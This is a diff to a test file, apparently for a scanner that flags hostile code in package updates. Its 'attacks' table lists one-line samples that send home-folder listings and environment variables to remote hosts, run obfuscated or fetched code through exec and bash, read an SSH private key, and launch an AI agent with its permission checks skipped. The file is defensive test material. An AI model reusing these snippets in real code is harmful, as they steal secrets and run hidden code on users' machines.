@@ -92,6 +92,18 @@ describe("attacks", () => {
       "an assistant that looks for secrets",
       `spawn("claude", ["--dangerously-skip-permissions", "-p", prompt]); const k = home + "/.ssh/id_rsa";`,
     ],
+    [
+      "index.js",
+      "what lies in the home folder",
+      `send(fs.readdirSync(os.homedir())); fetch(url + "?d=" + list);`,
+    ],
+    [
+      "index.js",
+      "data in an address",
+      `for (const k in process.env) all += k; https.get({ host, path: "/?d=" + all });`,
+    ],
+    ["module.py", "characters put together", `exec("".join(map(chr, [112, 114])))`],
+    ["run.sh", "a script in an archive", `sed rpath file | tr "A-Z" "N-M" | xz -d | /bin/bash`],
     ["module.py", "a decoded program", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
     ["module.py", "a program that is decompressed", `exec(__import__('zlib').decompress(blob))`],
     ["module.py", "a program that is fetched", `exec(requests.get("https://files.invalid/a").text)`],
@@ -172,7 +184,6 @@ describe("ordinary updates", () => {
       "a report of use",
       `fetch(url, { method: "POST", body: JSON.stringify({ event, version }) });`,
     ],
-    ["index.js", "a program that is started", `require("child_process").execFile("git", ["status"]);`],
     ["index.js", "a regular expression", `const m = /a(b)/.exec(text); re.exec(other);`],
     ["index.js", "an environment for a child", `spawn("node", args, { env: { ...process.env, CI: "1" } });`],
     [
@@ -188,11 +199,7 @@ describe("ordinary updates", () => {
     ["index.js", "a route", `app.post("/login", handler); app.get("/cookies", list);`],
     ["index.js", "an encoded picture", `const icon = "${Buffer.alloc(600, 0x89).toString("base64")}";`],
     ["module.py", "a request", `def get(url):\n    return requests.get(url).json()`],
-    [
-      "module.py",
-      "an environment for a child",
-      `env = os.environ.copy()\nsubprocess.run(["git", "status"], env=env)`,
-    ],
+    ["module.py", "an environment for a child", `env = os.environ.copy()\nenv["CI"] = "1"`],
     [
       "module.py",
       "documentation",
@@ -208,6 +215,18 @@ describe("ordinary updates", () => {
     ["setup.bat", "an installer", `msiexec /i "%~dp0tool.msi" /qn`],
   ])("stays quiet in %s for %s", async (path, _, payload) => {
     expect(["none", "info", "low"]).toContain(worst(await gain(path, payload)));
+  });
+
+  it("asks for a look when a package starts programs for the first time, and not again", async () => {
+    const runs = `require("child_process").execFile("git", ["status"]);`;
+    const [difference] = await gain("index.js", runs);
+    expect(difference).toMatchObject({ rule: "first-of-its-kind", risk: "medium" });
+    const known = await drawn("other.js", runs);
+    const pairs = [
+      { before: known, after: known, how: "path" as const },
+      { before: await drawn("a.js", "f();"), after: await drawn("a.js", runs), how: "path" as const },
+    ];
+    expect(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])])).toEqual([]);
   });
 
   it("stays quiet when what was there only moved", async () => {
